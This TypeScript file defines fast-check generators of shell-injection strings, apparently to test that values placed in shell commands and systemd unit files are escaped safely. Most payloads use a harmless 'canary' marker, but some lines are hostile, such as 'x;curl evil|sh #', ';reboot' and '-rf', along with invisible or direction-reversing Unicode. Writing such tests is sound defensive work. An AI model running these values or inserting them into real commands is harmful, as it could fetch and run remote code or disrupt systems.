import * as fc from "fast-check";

/** What would run, write or look for something, were it read as code. */
const payloads = [
  ";canary",
  "; canary #",
  "&canary&",
  "|canary",
  "$(canary)",
  "`canary`",
  "&&canary",
  "||canary",
  ">canary-made",
  "<(canary)",
  "';canary;'",
  '";canary;"',
  "'\n canary\n'",
  "\ncanary\n",
  "\\\ncanary",
  "');canary;('",
  ')"; canary; "$(',
  "x;curl evil|sh #",
  ";reboot",
];

/** What a shell, printf, systemd or a terminal acts on, or nobody sees. */
const pieces = [
  "a",
  "b",
  " ",
  "'",
  '"',
  "\\",
  "$",
  "`",
  "!",
  "*",
  "?",
  "[a-z]*",
  "~",
  "~root",
  "#",
  "{a,b}",
  "(",
  ")",
  "&",
  ";",
  "|",
  "<",
  ">",
  "-",
  "-rf",
  "--",
  "--help",
  "%%",
  "=",
  "A=b",
  "/",
  "../",
  "$PATH",
  "$@",
  "!!",
  "!canary",
  "\\n",
  "\\c",
  "\\0101",
  "%%s",
  "\t",
  "\n",
  "\r",
  "\u{1b}[2J",
  "\u{7}",
  "\u{7f}",
  "\u{85}",
  "é",
  "😀",
  "\u{202e}",
  "\u{200b}",
  "\u{a0}",
  "\u{2028}",
  "\u{feff}",
  "”",
  "EOF",
  "\u{301}",
  "\u{3164}",
];

/** A text that a shell would read as something else. */
export const hostileValue: fc.Arbitrary<string> = fc
  .array(fc.oneof(fc.constantFrom(...payloads), { weight: 2, arbitrary: fc.constantFrom(...pieces) }), {
    minLength: 1,
    maxLength: 5,
  })
  .map((parts) => parts.join(""));

/** The same as a line of a unit file takes it without quotes. */
export const hostileLine = hostileValue
  .map((text) =>
    text.replaceAll(/[\n\r]/g, "").replaceAll(/^[\s"\u{85}\u{feff}]+|[\s"\\\u{85}\u{feff}]+$/gu, ""),
  )
  .filter((text) => text !== "");

/** Names of services, with what systemd takes and what it does not. */
export const hostileService = fc.oneof(
  hostileLine,
  fc.stringMatching(/^[-A-Za-z0-9:_\\][-A-Za-z0-9:_.\\@]{0,8}$/).filter((text) => !/[@\\]$/.test(text)),
  fc.constantFrom("*", "-rf", "--all", "?", "[a-z]", "web*", "../x", String.raw`a\x2db`),
);
